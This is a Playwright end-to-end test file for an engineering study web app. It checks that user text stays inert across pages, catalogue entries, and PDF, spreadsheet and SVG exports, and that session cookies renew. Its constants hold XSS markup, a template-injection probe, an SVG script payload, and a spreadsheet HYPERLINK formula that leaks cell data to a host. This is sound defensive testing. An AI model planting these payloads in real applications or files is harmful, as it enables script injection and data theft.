import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { request, type APIRequestContext, type Page } from '@playwright/test';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { expect, settled, test } from './fixtures.js';
import { PATIENCE } from './instances.js';

/* What is typed is text, wherever it is shown; and a page whose session has ended gets another by itself. */

/** as markup, as the end of an attribute, as a script and as a template */
const TEXT = `"'><img src=x data-planted onerror="window.planted=1"><script>window.planted=1</script>{{7*7}}`;
/** a formula for a spreadsheet as well */
const FORMULA = `=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")<img data-planted>`;
const DRAWING = `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="window.planted=1"><script>window.planted=1</script></svg>').toString('base64')}`;

const PLAIN_TEXT = new Set(['title', 'tag', 'notes', 'name', 'preparedBy', 'currency', 'reason', 'maker', 'family', 'label', 'text', 'company', 'checkedBy', 'approvedBy', 'revision', 'template', 'filter', 'pressureClass', 'date']); // prettier-ignore

/** every text of a study that is free is the hostile one; what is an id, a choice or a quantity stays */
function planted(value: unknown, key = ''): unknown {
  if (typeof value === 'string') return PLAIN_TEXT.has(key) ? TEXT : value;
  if (Array.isArray(value)) return value.map((v) => planted(v, key));
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value).map(([k, v]) => [k, planted(v, k)]);
  return Object.fromEntries(entries);
}

interface Document {
  points: Record<string, object>;
  lines: (object & { elements: object[] })[];
  scenarios: object[];
  pumps: Record<string, object>;
  valves: Record<string, object>;
  report?: object;
}

async function hostileStudy(api: APIRequestContext): Promise<{ id: string; document: Document }> {
  const list = ((await (await api.get('/api/studies')).json()) as { studies: { id: string; title: string }[] }).studies;
  const { id: demo } = list.find((s) => s.title === 'Reinjection transfer')!;
  const { document: own } = (await (await api.get(`/api/studies/${demo}`)).json()) as { document: Document };
  const document = planted(own) as Document;
  const noted = [...Object.values(document.points), ...document.lines, ...document.lines.flatMap((l) => l.elements), ...document.scenarios, ...Object.values(document.pumps), ...Object.values(document.valves)]; // prettier-ignore
  for (const thing of noted) Object.assign(thing, { notes: TEXT });
  for (const thing of [...Object.values(document.pumps), ...Object.values(document.valves)])
    Object.assign(thing, { name: TEXT, maker: TEXT, family: TEXT });
  Object.assign(document, {
    title: TEXT,
    tag: FORMULA,
    preparedBy: TEXT,
    notes: TEXT,
    report: {
      ...document.report,
      company: TEXT,
      titleFields: [{ label: TEXT, text: FORMULA }],
      headings: [
        { part: 'pump-sheet', text: TEXT },
        { part: 'curves', text: TEXT },
      ],
      revisions: [{ revision: 'A', date: TEXT, text: FORMULA, preparedBy: TEXT, checkedBy: TEXT }],
    },
  });
  const answer = await api.post('/api/studies', { data: { document } });
  expect([answer.status(), answer.ok() ? '' : await answer.text()]).toEqual([201, '']);
  return { id: ((await answer.json()) as { id: string }).id, document };
}

/** nothing of it has become markup, and nothing has run */
async function isText(page: Page): Promise<void> {
  await expect(page.locator('[data-planted]')).toHaveCount(0);
  expect(await page.evaluate(() => (window as unknown as { planted?: number }).planted)).toBeUndefined();
  expect(await page.evaluate(() => document.body.textContent.includes('{{7*7}}') || document.title.includes('{{7*7}}'))).toBe(
    true,
  );
}

test('text of a study is text in every view, in its tables and in what hovers over them', async ({ page }) => {
  const { id } = await hostileStudy(page.request);
  await page.goto('/');
  await expect(page.getByRole('list', { name: 'Studies' })).toContainText('{{7*7}}');
  await isText(page);
  for (const view of ['system', 'scenarios', 'curves', 'pumps', 'valves', 'suction', 'margins', 'report']) {
    await page.goto(`/studies/${id}/${view}`);
    await expect(page.getByRole('button', { name: /^Scenario A/ }).locator('[data-figure=flow]')).toBeVisible();
    await settled(page);
    // what a chart says under the pointer is written by its library
    for (const chart of await page.locator('.apexcharts-canvas').all())
      for (const at of [0.2, 0.5, 0.8]) {
        const box = await chart.boundingBox();
        if (box) await page.mouse.move(box.x + box.width * at, box.y + box.height / 2);
      }
    await isText(page);
  }
  await expect(page.locator('[data-sheet=cover]')).toContainText('{{7*7}}');
  await page.getByRole('radio', { name: 'Letterhead' }).click();
  await isText(page);
  await page.getByRole('radio', { name: 'Ledger' }).click();
  await isText(page);
  await page.goto(`/studies/${id}/system`);
  await page.getByRole('button', { name: /versions/ }).click();
  await isText(page);
});

test('and in the catalogue: models, their files and what is imported', async ({ page }) => {
  const entry = { name: TEXT, maker: TEXT, family: TEXT, notes: TEXT, speed: '2900 rpm', curve: [{ flow: '0 m3/h', head: '40 m', efficiency: 0 }, { flow: '30 m3/h', head: '34 m', efficiency: 0.6 }, { flow: '50 m3/h', head: '20 m', efficiency: 0.5 }] }; // prettier-ignore
  const made = await page.request.post('/api/catalogue/models', { data: { kind: 'pumps', entry, note: TEXT, source: TEXT } });
  expect([made.status(), made.ok() ? '' : await made.text()]).toEqual([201, '']);
  const { id } = (await made.json()) as { id: string };
  const file = await page.request.post(`/api/catalogue/models/${id}/attachments?name=${encodeURIComponent(`${TEXT}.pdf`)}`, { data: Buffer.from('%PDF-1.7'), headers: { 'content-type': 'application/octet-stream' } }); // prettier-ignore
  expect(file.status()).toBe(201);
  for (const path of ['pumps', `pumps/${id}`]) {
    await page.goto(`/catalogues/${path}`);
    await expect(page.getByText('{{7*7}}').first()).toBeVisible();
    await isText(page);
  }
  const attachment = await page.request.get(`/api/catalogue/attachments/${((await file.json()) as { id: string }).id}`);
  expect(attachment.headers()['content-security-policy']).toBe("default-src 'none'; sandbox");
  expect(attachment.headers()['content-disposition']).toMatch(/^attachment;/);
});

test('and in what is printed: PDF, workbook, tables and drawings', async ({ page }) => {
  const { document } = await hostileStudy(page.request);
  const printed = async (format: string, more: object = {}): Promise<Buffer> => {
    const data = { document: { ...document, report: { ...document.report, ...more } }, format };
    const answer = await page.request.post('/api/studies/report', { data, timeout: PATIENCE.testMs });
    expect([format, answer.status()]).toEqual([format, 200]);
    return answer.body();
  };
  const pdf = test.info().outputPath('hostile.pdf');
  writeFileSync(pdf, await printed('pdf'));
  const reader = fileURLToPath(new URL('../packages/report/src/test/pdf-text.mjs', import.meta.url));
  const read = spawnSync(process.execPath, [reader, pdf], { encoding: 'utf8', maxBuffer: 1e8 });
  expect((JSON.parse(read.stdout) as { pages: string[][] }[])[0]!.pages.flat().join('')).toContain('{{7*7}}');
  expect(readFileSync(pdf, 'latin1')).not.toMatch(/\/(?:JavaScript|JS|Launch|URI|SubmitForm)\b/);

  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await printed('xlsx')) as unknown as ArrayBuffer);
  let texts = 0;
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (!String(cell.text).includes('data-planted')) return;
        texts++;
        expect([cell.address, typeof cell.value, cell.hyperlink]).toEqual([cell.address, 'string', undefined]);
      }),
    ),
  );
  expect(texts).toBeGreaterThan(10);

  const zip = await JSZip.loadAsync(await printed('zip'));
  const files = await Promise.all(Object.values(zip.files).map(async (f) => ({ name: f.name, text: await f.async('string') })));
  expect(files.filter((f) => /[/\\<>:"|?*]/.test(f.name)).map((f) => f.name)).toEqual([]);
  for (const { name, text } of files) {
    if (name.endsWith('.svg')) expect([name, /<(?:img|script|foreignObject)|onerror="/i.test(text)]).toEqual([name, false]);
    else expect([name, /(?:^|,|\n)"?[=@]/.test(text)]).toEqual([name, false]);
  }
  expect(files.some((f) => f.name.endsWith('.svg'))).toBe(true);

  // a drawing is no logo: it is refused with its place, and shown by no page
  const data = { document: { ...document, report: { logo: DRAWING } }, format: 'pdf' };
  const refused = await page.request.post('/api/studies/report', { data });
  expect([refused.status(), await refused.json()]).toMatchObject([422, { errors: [{ path: 'report.logo' }] }]);
  const answer = await page.request.post('/api/studies', { data: { document: data.document } });
  const { id } = (await answer.json()) as { id: string };
  await page.goto(`/studies/${id}/report`);
  await page.getByRole('radio', { name: 'Letterhead' }).click();
  await expect(page.getByRole('button', { name: 'Another logo' })).toBeVisible();
  await expect(page.locator('img[src^="data:image/svg"]')).toHaveCount(0);
});

test.describe('a session', () => {
  test.use({ allowed: /401/ });

  test('that has ended is renewed by the page itself, and what was typed is kept', async ({
    browser,
    baseURL,
    instance: { key },
  }) => {
    // without the key that the other tests send along
    const context = await browser.newContext({ extraHTTPHeaders: {} });
    const page = await context.newPage();
    const owner = await request.newContext({
      baseURL: baseURL!,
      extraHTTPHeaders: key ? { authorization: `Bearer ${key}` } : {},
    });
    const list = ((await (await owner.get('/api/studies')).json()) as { studies: { id: string; title: string }[] }).studies;
    const { id: demo } = list.find((s) => s.title === 'Reinjection transfer')!;
    const { id } = (await (await owner.post(`/api/studies/${demo}/copy`)).json()) as { id: string };
    await page.goto(`${baseURL}/studies/${id}/system`);
    await settled(page);
    const [before] = await context.cookies();
    expect(before).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
    await context.clearCookies();
    await page.locator('[data-row="L-401"] [data-cell=name]').click();
    await page.keyboard.type('Typed without a session');
    await page.keyboard.press('Enter');
    await settled(page);
    expect(JSON.stringify(await (await owner.get(`/api/studies/${id}`)).json())).toContain('Typed without a session');
    const [after] = await context.cookies();
    expect(after!.value).not.toBe(before!.value);
    await owner.dispose();
    await context.close();
  });
});
